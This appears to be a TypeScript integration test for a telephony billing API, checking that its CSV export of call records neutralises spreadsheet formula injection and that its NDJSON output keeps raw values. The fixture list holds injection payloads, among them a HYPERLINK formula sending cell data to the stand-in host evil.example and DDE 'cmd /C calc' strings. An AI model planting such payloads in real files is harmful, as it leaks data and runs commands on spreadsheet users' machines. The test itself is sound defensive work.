import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { startBridge, type Bridge } from '../../worker/test/harness';
import { seedTenant } from './v1-tenant-fixture';

const SERVICE = 5401;
const DOMAIN = 'csv-injection.pbx.example.net';

let bridge: Bridge;

/** caller_id_name as the caller sent it → as the CSV must carry it (a spreadsheet shows it as text). */
const NAMES: [string, string][] = [
  ['=HYPERLINK("http://evil.example/?"&A1,"Click me")', `'=HYPERLINK("http://evil.example/?"&A1,"Click me")`],
  ["+SUM(1+1)*cmd|' /C calc'!A0", `'+SUM(1+1)*cmd|' /C calc'!A0`],
  ["-2+3+cmd|' /C calc'!A0", `'-2+3+cmd|' /C calc'!A0`],
  ['@SUM(1+1)', "'@SUM(1+1)"],
  ['\t=1+2', "'\t=1+2"],
  ['\r=1+2', "'\r=1+2"],
  ['＝1+2', "'＝1+2"],
  ['Smith, "Jo"\nline two', 'Smith, "Jo"\nline two'],
  ['Plain Name', 'Plain Name'],
];

beforeAll(async () => {
  bridge = await startBridge();
  await bridge.startApi();
  const { domainUuid } = await seedTenant(bridge.api!.deps.pool, bridge.fusion, SERVICE, DOMAIN);
  for (const [index, [name]] of NAMES.entries()) {
    const uuid = randomUUID();
    await bridge.fusion.query(
      `insert into v_xml_cdr (xml_cdr_uuid, domain_uuid, domain_name, direction, leg, caller_id_name, caller_id_number, destination_number, start_stamp, end_stamp, duration, billsec, hangup_cause)
       values ($1, $2, $3, 'outbound', 'a', $4, $5, $6, timestamptz '2026-10-02 00:00:00+00' + $7 * interval '1 minute', timestamptz '2026-10-02 00:01:00+00' + $7 * interval '1 minute', 60, 42, 'NORMAL_CLEARING')`,
      [uuid, domainUuid, DOMAIN, name, index === 0 ? '=1+1' : '+15551230000', index === 0 ? '-1' : '1800', index],
    );
    await bridge.api!.deps.pool.query(
      `insert into cdr_charges (xml_cdr_uuid, service_id, domain_name, start_stamp, direction, billsec, amount, status, period)
       values ($1, $2, $3, timestamptz '2026-10-02 00:00:00+00' + $4 * interval '1 minute', 'outbound', 42, '0.5', 'rated', '2026-10')`,
      [uuid, SERVICE, DOMAIN, index],
    );
  }
}, 120000);

afterAll(async () => {
  await bridge.close();
});

it('CSV export: a caller-controlled field starting with = + - @ tab or CR is written as text, numbers stay numbers', async () => {
  const response = await fetch(`${bridge.url}/v1/tenants/${SERVICE}/cdrs?format=csv`, { headers: { authorization: `Bearer ${bridge.config.adminToken}` } });
  expect(response.status).toBe(200);
  const text = await response.text();
  // Every record ends with CRLF.
  expect(text.endsWith('\r\n')).toBe(true);
  const records = parse(text, { columns: true, relax_column_count: false }) as Record<string, string>[];
  expect(records).toHaveLength(NAMES.length);
  const byName = new Map(records.map((record) => [record.callerIdName, record]));
  for (const [, expected] of NAMES) expect(byName.has(expected)).toBe(true);
  for (const record of records) {
    for (const [column, value] of Object.entries(record)) {
      // Only a plain number may start with + or -; nothing may start with = @ tab CR.
      if (/^[=+\-@\t\r＝＋－＠]/.test(value)) expect({ column, value }).toEqual({ column, value: expect.stringMatching(/^[+-][0-9]+(\.[0-9]+)?$/) });
    }
    expect(record.duration).toBe('60');
    expect(record.billsec).toBe('42');
    expect(record.amount).toBe('0.500000');
  }
  const first = byName.get(NAMES[0]![1])!;
  expect(first.callerIdNumber).toBe("'=1+1");
  expect(first.destinationNumber).toBe('-1');
  expect(byName.get('Plain Name')!.callerIdNumber).toBe('+15551230000');
});

it('NDJSON and JSON keep the values exactly as recorded (escaping is for spreadsheets only)', async () => {
  const response = await fetch(`${bridge.url}/v1/tenants/${SERVICE}/cdrs?format=ndjson`, { headers: { authorization: `Bearer ${bridge.config.adminToken}` } });
  const names = (await response.text())
    .trim()
    .split('\n')
    .map((line) => (JSON.parse(line) as { callerIdName: string }).callerIdName);
  expect(names.sort()).toEqual(NAMES.map(([name]) => name).sort());
});
